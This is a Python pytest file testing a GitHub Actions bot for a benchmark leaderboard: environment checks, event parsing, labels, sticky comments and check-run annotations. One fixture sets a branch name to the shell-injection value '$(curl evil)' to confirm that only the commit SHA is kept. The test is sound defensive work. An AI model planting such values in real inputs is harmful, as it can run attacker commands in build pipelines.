"""The pure parts of bot.github: environment, events, labels, sticky choice, check payloads."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from bot.github import checks
from bot.github.client import CommentInfo
from bot.github.env import ConfigError, load_env
from bot.github.events import read_event, workflow_run_target
from bot.github.labels import label_changes
from bot.github.sticky import MAX_COMMENT_CHARS, fit_comment, plan_sticky

GOOD_ENV = {"GITHUB_REPOSITORY": "hearbenchmark/hear-leaderboard", "GITHUB_TOKEN": "t0ken"}
SHA = "0123456789abcdef0123456789abcdef01234567"


def test_env_defaults() -> None:
    env = load_env(GOOD_ENV)
    assert env.api_url == "https://api.github.com"
    assert env.bot_login == "github-actions[bot]"
    assert env.event_path is None
    assert env.retry.retries == 5 and env.retry.seconds_between_writes == 1.0


@pytest.mark.parametrize(
    ("changes", "named"),
    [
        ({"GITHUB_REPOSITORY": ""}, "GITHUB_REPOSITORY"),
        ({"GITHUB_REPOSITORY": "no-slash"}, "GITHUB_REPOSITORY"),
        ({"GITHUB_REPOSITORY": "a/b/c"}, "GITHUB_REPOSITORY"),
        ({"GITHUB_REPOSITORY": "a/.."}, "GITHUB_REPOSITORY"),
        ({"GITHUB_TOKEN": ""}, "GITHUB_TOKEN"),
        ({"GITHUB_TOKEN": "a b"}, "GITHUB_TOKEN"),
        ({"GITHUB_API_URL": "ftp://api.github.com"}, "GITHUB_API_URL"),
        ({"GITHUB_API_URL": "http://api.github.com"}, "GITHUB_API_URL"),
        ({"GITHUB_API_URL": "https://x:y@api.github.com"}, "GITHUB_API_URL"),
        ({"HEARBOT_LOGIN": "not a login"}, "HEARBOT_LOGIN"),
        ({"HEARBOT_RETRY_BACKOFF": "fast"}, "HEARBOT_RETRY_BACKOFF"),
        ({"HEARBOT_RETRY_BACKOFF": "-1"}, "HEARBOT_RETRY_BACKOFF"),
        ({"HEARBOT_RETRY_BACKOFF": "nan"}, "HEARBOT_RETRY_BACKOFF"),
        ({"HEARBOT_RETRIES": "2.5"}, "HEARBOT_RETRIES"),
    ],
)
def test_bad_environment_names_the_variable(changes: dict[str, str], named: str) -> None:
    with pytest.raises(ConfigError, match=named):
        load_env({**GOOD_ENV, **changes})


def test_missing_token_is_exit_2_naming_it(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture
) -> None:
    from bot.github.cli import main

    monkeypatch.setenv("GITHUB_REPOSITORY", "hearbenchmark/hear-leaderboard")
    monkeypatch.delenv("GITHUB_TOKEN", raising=False)
    assert main(["github", "report-validation", "--pr", "1"]) == 2
    assert "GITHUB_TOKEN" in capsys.readouterr().err


def test_missing_event_path_is_exit_2_naming_it(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture
) -> None:
    from bot.github.cli import main

    for name, value in GOOD_ENV.items():
        monkeypatch.setenv(name, value)
    monkeypatch.delenv("GITHUB_EVENT_PATH", raising=False)
    assert main(["github", "report-validation"]) == 2
    assert "GITHUB_EVENT_PATH" in capsys.readouterr().err


@pytest.mark.parametrize("number", ["0", "-1", "01", "1e3", "١", "99999999999"])
def test_pr_option_takes_only_plain_positive_integers(number: str) -> None:
    from bot.github.cli import main

    with pytest.raises(SystemExit) as exit_info:
        main(["github", "report-validation", "--pr", number])
    assert exit_info.value.code == 2


def test_unreachable_api_is_an_infrastructure_error(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture
) -> None:
    import socket

    from bot.github.cli import main

    with socket.socket() as probe:  # a port nothing listens on
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    for name, value in {
        **GOOD_ENV,
        "GITHUB_API_URL": f"http://127.0.0.1:{port}",
        "HEARBOT_RETRIES": "1",
        "HEARBOT_RETRY_BACKOFF": "0",
        "HEARBOT_SECONDS_BETWEEN_REQUESTS": "0",
    }.items():
        monkeypatch.setenv(name, value)
    assert main(["github", "report-validation", "--pr", "1"]) == 3
    assert "infrastructure" in capsys.readouterr().err


def test_event_keeps_only_the_head_sha(tmp_path: Path) -> None:
    payload = {
        "repository": {"full_name": "o/r"},
        "workflow_run": {
            "head_sha": SHA,
            "head_branch": "$(curl evil)",
            "pull_requests": [{"number": 666}],
        },
    }
    path = tmp_path / "event.json"
    path.write_text(json.dumps(payload))
    assert workflow_run_target(read_event(path), "o/r").head_sha == SHA


@pytest.mark.parametrize(
    "payload",
    [
        {},
        {"workflow_run": None},
        {"workflow_run": "x"},
        {"workflow_run": {}},
        {"workflow_run": {"head_sha": SHA.upper()}},
        {"pull_request": {"head": {"sha": SHA}}},
    ],
)
def test_events_without_a_usable_workflow_run_are_refused(payload: dict[str, Any]) -> None:
    with pytest.raises(ConfigError):
        workflow_run_target(payload, "o/r")


@pytest.mark.parametrize("content", [b"", b"[1, 2]", b"{not json", b"\xff\xfe"])
def test_unreadable_event_files_are_refused(tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "event.json"
    path.write_bytes(content)
    with pytest.raises(ConfigError, match="event file"):
        read_event(path)


def test_missing_event_file_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="does not exist"):
        read_event(tmp_path / "nope.json")


@pytest.mark.parametrize(
    ("current", "ok", "add", "remove"),
    [
        ([], True, ("submission", "valid"), ()),
        ([], False, ("submission", "invalid"), ()),
        (["submission", "valid"], True, (), ()),
        (["submission", "valid", "good first issue"], False, ("invalid",), ("valid",)),
        (["Submission", "INVALID"], True, ("valid",), ("INVALID",)),
    ],
)
def test_label_changes(current: list[str], ok: bool, add: tuple, remove: tuple) -> None:
    changes = label_changes(current, ok)
    assert (changes.add, changes.remove) == (add, remove)


MARKER = "<!-- m -->"


def test_sticky_needs_marker_and_bot_login() -> None:
    comments = [
        CommentInfo(1, "mallory", f"{MARKER} spoof"),
        CommentInfo(2, "bot", "no marker"),
        CommentInfo(5, "bot", f"{MARKER} duplicate"),
        CommentInfo(3, "bot", f"{MARKER} report"),
    ]
    plan = plan_sticky(comments, "bot", MARKER)
    assert (plan.edit_id, plan.delete_ids) == (3, (5,))
    assert plan_sticky(comments[:2], "bot", MARKER).edit_id is None


def test_fit_comment_respects_github_limit() -> None:
    body = MARKER + "\n" + ("x" * 80 + "\n") * 2000
    fitted = fit_comment(body)
    assert len(fitted) <= MAX_COMMENT_CHARS
    assert fitted.startswith(MARKER)
    assert fit_comment("short") == "short"


def finding(code: str, line: int | None) -> dict[str, Any]:
    return {"code": code, "line": line, "column": None, "message": "m", "fix": "f"}


def result(errors: list[dict], warnings: list[dict] | None = None) -> dict[str, Any]:
    return {"ok": not errors, "errors": errors, "warnings": warnings or []}


def test_check_payload_for_a_valid_result() -> None:
    (only,) = checks.check_run_requests(result([]), "summary", SHA, create=True)
    assert only["name"] == checks.CHECK_NAME and only["head_sha"] == SHA
    assert (only["status"], only["conclusion"]) == ("completed", "success")
    assert "annotations" not in only["output"]


def test_findings_without_a_line_stay_in_the_summary() -> None:
    payload = checks.check_run_requests(
        result([finding("no-new-row", None)], [finding("claims-top-rank", None)]),
        "summary",
        SHA,
        create=False,
    )
    assert len(payload) == 1 and "name" not in payload[0]
    assert payload[0]["conclusion"] == "failure"
    assert "annotations" not in payload[0]["output"]
    assert "2 findings without a line" in payload[0]["output"]["text"]


def test_annotations_go_in_batches_of_50_up_to_the_cap() -> None:
    errors = [finding("field-count", line) for line in range(2, 300)]
    warnings = [finding("claims-top-rank", 2)]
    requests = checks.check_run_requests(result(errors, warnings), "s", SHA, create=True)
    batches = [r["output"].get("annotations", []) for r in requests]
    assert [len(b) for b in batches] == [50, 50, 50, 50]
    assert all(r["output"]["title"] and r["output"]["summary"] for r in requests)
    assert {a["annotation_level"] for b in batches for a in b} == {"failure"}
    assert "99 more" in requests[0]["output"]["text"]


def test_warnings_annotate_as_warning_after_errors() -> None:
    annotations = checks.annotations(
        result([finding("score-range", 36)], [finding("claims-top-rank", 36)])
    )
    assert [a["annotation_level"] for a in annotations] == ["failure", "warning"]
    assert annotations[0] | {"message": ""} == {
        "path": "leaderboard.csv",
        "start_line": 36,
        "end_line": 36,
        "annotation_level": "failure",
        "title": "score-range",
        "message": "",
    }


def test_summary_is_cut_to_the_checks_api_limit() -> None:
    (only,) = checks.check_run_requests(result([]), "y" * 70_000, SHA, create=True)
    assert len(only["output"]["summary"]) == checks.MAX_OUTPUT_CHARS
